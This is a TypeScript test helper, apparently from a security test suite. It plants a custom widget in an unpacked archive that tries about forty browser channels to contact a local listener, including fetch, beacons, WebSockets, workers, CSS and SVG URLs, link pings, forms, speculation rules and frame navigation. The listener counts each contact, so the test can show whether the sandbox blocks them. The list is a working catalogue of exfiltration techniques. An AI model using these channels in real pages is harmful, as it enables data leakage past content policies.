import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { bytesOf } from '../../../shared/storage/digest.ts';
import { releaseWidget } from '../../../shared/widgets/releases.ts';
import { buildPackage, buildVersion } from '../../support/factories.ts';
import type { useArchiveLab } from './archive-lab.ts';

/** On this machine, so that a leak reaches no other. */
export const host = '127.0.0.1';

/** Attempts of a custom widget, one in each line: `u` is a URL of the listener, `add` appends an element to the document. */
const attempts = `
fetch(u)
fetch(u, { mode: 'no-cors', method: 'POST', body: 'x' })
fetch('file://${host}/share/x')
const request = new XMLHttpRequest(); request.open('GET', u); request.send()
navigator.sendBeacon(u, 'x')
new WebSocket(u.replace('http', 'ws'))
new EventSource(u)
new WebTransport(u.replace('http', 'https'))
fetchLater(u, { activateAfter: 0 })
return import(u)
return import('file://${host}/share/x.js')
for (const code of ['importScripts(u)', 'fetch(u)', 'new WebSocket(u)']) new Worker(URL.createObjectURL(new Blob(['const u = ' + JSON.stringify(u) + ';' + code])))
new SharedWorker(u)
navigator.serviceWorker.register(u)
new AudioContext().audioWorklet.addModule(u)
new Image().src = u
new Audio(u).load()
new FontFace('r', 'url(' + u + ')').load()
add('script', { src: u })
add('video', { src: u, poster: u })
add('img', { srcset: u + ' 1x' })
add('img', { attributionSrc: u })
for (const rel of ['stylesheet', 'icon', 'manifest', 'prefetch', 'prerender', 'preconnect', 'modulepreload']) add('link', { rel, href: u })
for (const as of ['image', 'fetch', 'script', 'style', 'font']) add('link', { rel: 'preload', as, href: u })
add('style', { textContent: '@import "' + u + '"; @font-face { font-family: q; src: url(' + u + ') } p { font-family: q; background: url(' + u + '); cursor: url(' + u + '), auto }' })
add('p', { textContent: 'x', style: 'list-style: url(' + u + ')' })
add('iframe', { src: u })
add('object', { data: u })
add('embed', { src: u })
add('iframe', { srcdoc: '<img src="' + u + '"><link rel=prefetch href="' + u + '"><meta http-equiv=refresh content="0;url=' + u + '">' })
add('object', { data: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="' + u + '"/></svg>' })
add('div', { innerHTML: '<svg><image href="' + u + '" width=9 height=9 /><use href="' + u + '#a"/><rect fill="url(' + u + '#a)" filter="url(' + u + '#b)" width=9 height=9 /></svg>' })
add('div', { innerHTML: '<video><track default src="' + u + '"></video>' }).firstChild.textTracks[0].mode = 'showing'
add('div', { innerHTML: '<math href="' + u + '"><mi>x</mi></math>' }).firstChild.dispatchEvent(new MouseEvent('click', { bubbles: true }))
add('a', { href: '#x', ping: u }).click()
add('a', { href: u, download: 'x' }).click()
add('form', { action: u, method: 'post' }).submit()
add('form', { action: u }).submit()
add('script', { type: 'speculation' + 'rules', textContent: JSON.stringify({ prefetch: [{ urls: [u] }], prerender: [{ urls: [u] }] }) })
add('meta', { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + u })
add('base', { href: u + '/' }); add('img', { src: 'y.png' })
parent.location = u
top.location = u
add('meta', { httpEquiv: 'refresh', content: '0;url=' + u }); location = u
`
  .trim()
  .split('\n');

/** Unpacks an archive with a widget that tries to contact a host, which notes each contact. */
export async function startAttack(lab: ReturnType<typeof useArchiveLab>) {
  const contacts: string[] = [];
  const server = createServer((socket) => {
    contacts.push('a connection');
    socket.on('error', () => undefined).on('data', (data) => contacts.push(String(data).slice(0, 80)));
  }).listen(0, host);
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const socket = createSocket('udp4').on('message', () => contacts.push('a UDP packet'));
  socket.bind(port, host);
  const js = `export default { mount() {
    const u = 'http://${host}:${port}/x';
    const add = (name, props) => {
      const node = document.createElement(name);
      for (const [key, value] of Object.entries(props)) {
        if (key in node && key !== 'style') node[key] = value;
        else node.setAttribute(key, value);
      }
      return document.body.appendChild(node);
    };
    for (const attempt of attempts) {
      try { attempt(u, add)?.catch(() => undefined); } catch {}
    }
  } };
  const attempts = [${attempts.map((code) => `(u, add) => { ${code} }`).join(',')}];`;
  await releaseWidget(lab.api.db, lab.api.store, {
    ...{ organizationId: lab.api.organization._id, type: 'Attacker', css: null },
    js: bytesOf(Buffer.from(js)),
  });
  const { path } = await buildPackage({ blocks: () => [{ type: 'Attacker', props: { id: 'a' } }] });
  const archive = await lab.unpack(await buildVersion(lab.api, lab.api.organization, path));
  // The last attempt navigates the frame of the widget, which the page's policy reports.
  await writeFile(
    join(archive.path, 'player', 'callbacks.js'),
    `document.addEventListener('securitypolicyviolation', ({ effectiveDirective: name }) => { if (name === 'frame-src') window.isTried = true; });`,
  );
  const close = () => {
    server.close();
    socket.close();
  };
  return { archive, contacts, close };
}
